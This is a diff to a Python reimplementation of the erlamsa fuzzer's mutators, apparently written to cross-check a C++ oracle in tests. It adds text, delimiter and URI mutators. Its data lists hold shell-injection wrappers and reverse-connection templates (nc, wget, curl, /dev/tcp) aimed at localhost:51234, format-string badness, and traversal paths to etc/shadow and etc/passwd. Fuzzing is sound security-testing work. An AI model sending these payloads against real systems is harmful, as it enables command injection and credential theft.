@@ -1,7 +1,7 @@
 """An independent Python model of a subset of erlamsa_main:fuzzer/1, written from the reference's .erl sources (cited per
 function) WITHOUT consulting oracle/oracle.cpp: paths = [direct], generators direct + random, patterns od / nd / bu / sk / co / nu (a skipper whose continuation is a sizer, csum, archiver or compressed pattern is
 reported as unmodelled: fuzzer/5 returns None for that case), and
-the mutators uw ui num bd bei bed bf bi ber br sp sr sd snand srnd ld lds lr2 lri lr ls lp lis lrs ft fn fo tr2 td ts1 ts2 tr nil.  tests/test_pymodel.py diffs it against the C++ oracle.
+the mutators uw ui num bd bei bed bf bi ber br sp sr sd snand srnd ld lds lr2 lri lr ls lp lis lrs ft fn fo tr2 td ts1 ts2 tr ab ad uri nil.  tests/test_pymodel.py diffs it against the C++ oracle.
 
 Everything is a literal, clause-by-clause transcription — Erlang lists are Python lists, binaries are bytes, lazy
 stream tails are forced in the order erlamsa_out:blocks_port forces them.  OTP pieces (random, lists:sort/2) are
@@ -544,6 +544,261 @@ def randmask(rnd, maskfun, bs):                                            # :28
     return out
 
 
+# ------------------------------------------------------------------------------------------------ erlamsa_strlex.erl
+def texty(b):                                                              # :38-45
+    return (31 < b <= 126) or b in (9, 10, 13)
+
+
+def texty_enough(s, i):                                                    # :46-55 (?MIN_TEXTY = 6)
+    n = 6
+    while i < len(s) and n > 0:
+        if not texty(s[i]):
+            return False
+        i, n = i + 1, n - 1
+    return True
+
+
+def lex(s):
+    """lex/1 :59-111 -> [('byte', l) | ('text', l) | ('delimited', L, l, R)] (chunks in order)"""
+    chunks, raw, i, n = [], [], 0, len(s)
+    while True:                                                            # string_lex_step/3
+        if i >= n:
+            if raw:
+                chunks.append(("byte", raw))
+            return chunks
+        if not texty_enough(s, i):
+            raw.append(s[i])
+            i += 1
+            continue
+        if raw:
+            chunks.append(("byte", raw))
+            raw = []
+        seen = []                                                          # step_text/3 (seen kept in order)
+        while True:
+            if i >= n:
+                chunks.append(("text", seen))
+                return chunks
+            h = s[i]
+            if h in (34, 39):                                              # step_delimited/6: PrevR = [H | Seenr]
+                start, after, i = h, [], i + 1
+                while True:
+                    if i >= n:
+                        chunks.append(("text", seen + [start] + after))    # reverse(AfterR ++ PrevR)
+                        return chunks
+                    c = s[i]
+                    if c == start:
+                        if seen:
+                            chunks.append(("text", seen))
+                        chunks.append(("delimited", start, after, start))
+                        i += 1
+                        break
+                    if c == 92 and i + 1 >= n:
+                        after.append(92)
+                        i += 1
+                        continue
+                    if c == 92:
+                        if texty(s[i + 1]):
+                            after += [92, s[i + 1]]
+                            i += 2
+                        else:
+                            after.append(92)
+                            i += 1
+                        continue
+                    if texty(c):
+                        after.append(c)
+                        i += 1
+                        continue
+                    chunks.append(("text", seen + [start] + after))
+                    break
+                break                                                      # back to string_lex_step with Rawr = []
+            if texty(h):
+                seen.append(h)
+                i += 1
+                continue
+            chunks.append(("text", seen))
+            break
+
+
+def unlex(chunks):                                                         # :113-124
+    out = []
+    for c in chunks:
+        out += ([c[1]] + c[2] + [c[3]]) if c[0] == "delimited" else c[1]
+    return out
+
+
+# ------------------------------------------------------------------------------------------------ ASCII mutators :430-651
+SILLY = [list(b"%n"), list(b"%n"), list(b"%s"), list(b"%d"), list(b"%p"), list(b"%#x"), [0], list(b"aaaa%d%n"), [10], [13], [9], [8]]
+DELIMS = [list(x) for x in (b"'", b'"', b"'", b'"', b"'", b'"', b"&", b":", b"|", b";", b"\\", b"\n", b"\r", b"\t", b" ", b"`", b"\0", b"]", b"[", b">", b"<")]
+SHELLINJ = ["';%s;'", '";%s;"', ";%s;", "|%s#", "^ %s ^", "& %s &", "&& %s &&", "|| %s ||", "%%0D%s%%0D", "`%s`"]
+REVCONN = ["calc.exe & notepad.exe %s %d ", "nc %s %d", "wget http://%s:%d", "curl %s %d", "exec 3<>/dev/tcp/%s/%d",
+           "sleep 100000 # %s %d ", "echo>/tmp/erlamsa.%s.%d"]
+SSRF = ("localhost", 51234)                                                # get_ssrf_ep/0 without the ETS table :698-703
+
+
+def stringy(cs):                                                           # :440-442
+    return any(c[0] != "byte" for c in cs)
+
+
+def random_badness(rnd):                                                   # :469-477
+    out = []
+    for _ in range(rnd.rand(20) + 1):
+        out = rnd.rand_elem(SILLY) + out
+    return out
+
+
+def rand_as_count(rnd):                                                    # :487-501
+    t = rnd.rand(11)
+    return [127, 128, 255, 256, 16383, 16384, 32767, 32768, 65535, 65536][t] if t < 10 else rnd.rand(1024)
+
+
+def insert_traversal(rnd, symb):                                           # :509-511
+    return symb + [x for _ in range(rnd.erand(10)) for x in [46, 46] + symb]
+
+
+def mutate_text(rnd, kind, lst):                                           # :524-563
+    if kind == "insert_badness":
+        if not lst:
+            return random_badness(rnd)
+        p = rnd.erand(len(lst))
+        bad = random_badness(rnd)
+        return lst[:p - 1] + bad + lst[p - 1:]
+    if kind == "replace_badness":
+        if not lst:
+            return random_badness(rnd)
+        p = rnd.erand(len(lst))
+        bad = random_badness(rnd)
+        tail = lst[p:]
+        return lst[:p - 1] + tail + bad[len(tail):]                        # overwrite(nthtail(P, Lst), Bad) :479-484
+    if kind == "insert_aaas":
+        if not lst:
+            return [97] * rand_as_count(rnd)
+        n = rand_as_count(rnd)
+        p = rnd.erand(len(lst))
+        return lst[:p - 1] + [97] * n + lst[p:]
+    if kind == "insert_traversal":
+        if not lst:
+            return insert_traversal(rnd, [47])
+        p = rnd.erand(len(lst))
+        return lst[:p - 1] + insert_traversal(rnd, rnd.rand_elem([[92], [47]])) + lst[p:]
+    if kind == "insert_null":
+        return lst + [0]
+    if kind == "insert_delimeter" or (kind == "insert_shellinj" and not lst):
+        if not lst:
+            return rnd.rand_elem(DELIMS)
+        p = rnd.erand(len(lst))
+        bad = rnd.rand_elem(DELIMS)
+        return lst[:p - 1] + bad + lst[p - 1:]
+    if kind == "insert_shellinj":
+        p = rnd.erand(len(lst))
+        inj = rnd.rand_elem(SHELLINJ)                                      # buildrevconnect/0 :516-520
+        rev = rnd.rand_elem(REVCONN)
+        sh = list((inj % (rev % SSRF)).encode())
+        return lst[:p - 1] + sh + lst[p - 1:]
+    raise AssertionError(kind)
+
+
+def mutate_text_data(rnd, lst, kinds):
+    return mutate_text(rnd, rnd.rand_elem(kinds), lst)                     # :513-514
+
+
+def ascii_mutator(rnd, ll, fun):                                           # construct_ascii_mutator :586-602
+    h, t = ll[0], ll[1:]
+    cs = lex(list(h))
+    if not stringy(cs):
+        return ll, -1
+    ms = fun(cs)
+    d = rnd.rand_delta()
+    return [bytes(unlex(ms))] + t, d
+
+
+def string_generic_mutate(rnd, cs, kinds):                                 # :571-583
+    l, r = len(cs), 0
+    while True:
+        if r > l / 4:
+            return cs
+        p = rnd.erand(l)
+        el = cs[p - 1]
+        if el[0] == "text":
+            return cs[:p - 1] + [("text", mutate_text_data(rnd, el[1], kinds))] + cs[p:]
+        if el[0] == "byte":
+            r += 1
+            continue
+        return cs[:p - 1] + [("delimited", el[1], mutate_text_data(rnd, el[2], kinds), el[3])] + cs[p:]
+
+
+def string_delimeter_mutate(rnd, cs):                                      # :626-644
+    l, r = len(cs), 0
+    while True:
+        if r > l / 4:
+            return cs
+        p = rnd.erand(l)
+        el = cs[p - 1]
+        if el[0] == "text":
+            kind = rnd.rand_elem(["insert_delimeter", "insert_delimeter", "insert_delimeter", "insert_shellinj"])
+            return cs[:p - 1] + [("text", mutate_text_data(rnd, el[1], [kind]))] + cs[p:]
+        if el[0] == "byte":
+            r += 1
+            continue
+        k = rnd.rand(4)                                                    # drop_delimeter/2 :615-622
+        drop = [("text", [el[1]] + el[2]), ("text", el[2] + [el[3]]), ("text", el[2]), el][k]
+        return cs[:p - 1] + [drop] + cs[p:]
+
+
+AB_KINDS = ["insert_badness", "replace_badness", "insert_traversal", "insert_aaas", "insert_null"]
+
+
+# ------------------------------------------------------------------------------------------------ uri :727-784
+def change_scheme(acc_rev):                                                # :727-729 (Acc is reversed)
+    if acc_rev[:4] == list(b"elif"):
+        return (list(b"ptth") + acc_rev[4:])[::-1]
+    return acc_rev[::-1]
+
+
+def tokens(t):                                                             # string:tokens(T, "/")
+    return [list(x) for x in bytes(t).split(b"/") if x]
+
+
+def try_uri_mutate(rnd, a):                                                # :764-768 + rand_uri_mutate :739-758
+    for i in range(len(a) - 2):
+        if a[i:i + 3] == [58, 47, 47]:
+            acc_rev, t = a[:i][::-1], a[i + 3:]
+            mode = rnd.erand(3)
+            host, port = SSRF
+            if mode == 1:
+                return change_scheme(acc_rev) + list(("://%s:%d/" % (host, port)).encode()) + t, 1
+            if mode == 2:
+                at = list((rnd.rand_elem([" @%s:%d", "@%s:%d"]) % (host, port)).encode())
+                tk = tokens(t)
+                if not tk:
+                    raise ErlCrash("badmatch: [Domain | Query] = []")
+                q = [x for k, part in enumerate(tk[1:]) for x in ([47] if k else []) + part]
+                return change_scheme(acc_rev) + list(b"://") + tk[0] + at + [47] + q, 1
+            tk = tokens(t)
+            if not tk:
+                raise ErlCrash("badmatch: [Domain | Query] = []")
+            trav = [47] + list(b"../") * rnd.erand(10)
+            k = rnd.erand(4)
+            q = [x for j, part in enumerate(tk[1:]) for x in ([47] if j else []) + part]
+            tailq = [q, list(b"Windows/win.ini"), list(b"etc/shadow"), list(b"etc/passwd")][k - 1]
+            return acc_rev[::-1] + list(b"://") + tk[0] + trav + tailq, 1
+    return a, 0
+
+
+def uri_mutator(rnd, ll, st):                                              # :771-784
+    if st == "b64":
+        raise Unmodelled("uri_mutator hands back fun base64_mutator/2 (:784): the slot is b64 from its second call on")
+    h, t = ll[0], ll[1:]
+    cs, d, ms = lex(list(h)), -1, []
+    for c in cs:
+        if c[0] == "text" and len(c[1]) > 5:
+            na, nd = try_uri_mutate(rnd, c[1])
+            ms.append(("text", na))
+            d += nd
+        else:
+            ms.append(c)
+    return [bytes(unlex(ms))] + t, d, "b64"
+
+
 # ------------------------------------------------------------------------------------------------ guessed parse trees
 # erlamsa_mutations.erl:787-1023, transcribed with Python lists as Erlang lists (bytes are ints, nodes are lists, all
 # comparisons are by VALUE like =:=).  FALSE stands for the atom false (a Python False would equal the byte 0).
@@ -852,6 +1107,8 @@ def make_table(rnd, snand_mask):
         "snand": lambda ll: sed_bytes(rnd, ll, lambda h, bs, t, bt: [h + bytes(randmask(rnd, masks[snand_mask], list(bs))) + t] + bt),
         "srnd": lambda ll: sed_bytes(rnd, ll, lambda h, bs, t, bt: [h + bytes(randmask(rnd, masks["mask_replace"], list(bs))) + t] + bt),
         "uw": uw, "ui": ui,
+        "ab": lambda ll: ascii_mutator(rnd, ll, lambda cs: string_generic_mutate(rnd, cs, AB_KINDS)),       # :605-611
+        "ad": lambda ll: ascii_mutator(rnd, ll, lambda cs: string_delimeter_mutate(rnd, cs)),               # :647-651
         "tr2": lambda ll: sed_tree_op(rnd, ll, lambda node: [node[0]] + node),                    # sed_tree_dup :931-932
         "td": lambda ll: sed_tree_op(rnd, ll, lambda node: node[1:]),                             # sed_tree_del :935-936
         "ts1": lambda ll: sed_tree_swap(rnd, ll, False), "ts2": lambda ll: sed_tree_swap(rnd, ll, True),
@@ -861,6 +1118,7 @@ def make_table(rnd, snand_mask):
     tab = {k: stateless(v) for k, v in tab.items()}
     tab.update({"ld": line(list_del), "lds": line(list_del_seq), "lr2": line(list_dup), "lri": line(list_clone),
                 "lr": line(list_repeat), "ls": line(list_swap), "lp": line(list_perm),
+                "uri": lambda ll, st: uri_mutator(rnd, ll, st),
                 "ft": lambda ll, st: sed_fuse_this(rnd, ll, st), "fn": lambda ll, st: sed_fuse_next(rnd, ll, st),
                 "fo": lambda ll, st: sed_fuse_old(rnd, ll, st),
                 "lis": lambda ll, st: st_line_muta(rnd, ll, st, lambda x: lambda t, r: [x, t] + r),          # st_list_ins :156-158
@@ -869,8 +1127,8 @@ def make_table(rnd, snand_mask):
 
 
 # table order of mutations/1 (:1290-1331), restricted to what this model implements
-TABLE_ORDER = ["uw", "ui", "tr2", "td", "num", "ts1", "tr", "ts2", "bd", "bei", "bed", "bf", "bi", "ber", "br", "sp", "sr", "sd", "snand", "srnd",
-               "ld", "lds", "lr2", "lri", "lr", "ls", "lp", "lis", "lrs", "ft", "fn", "fo", "nil"]
+TABLE_ORDER = ["uw", "ui", "ab", "ad", "tr2", "td", "num", "ts1", "tr", "ts2", "bd", "bei", "bed", "bf", "bi", "ber", "br", "sp", "sr", "sd", "snand", "srnd",
+               "ld", "lds", "lr2", "lri", "lr", "ls", "lp", "lis", "lrs", "ft", "fn", "fo", "uri", "nil"]
 
 
 def adjust_priority(pri, delta):                                           # :1240-1242
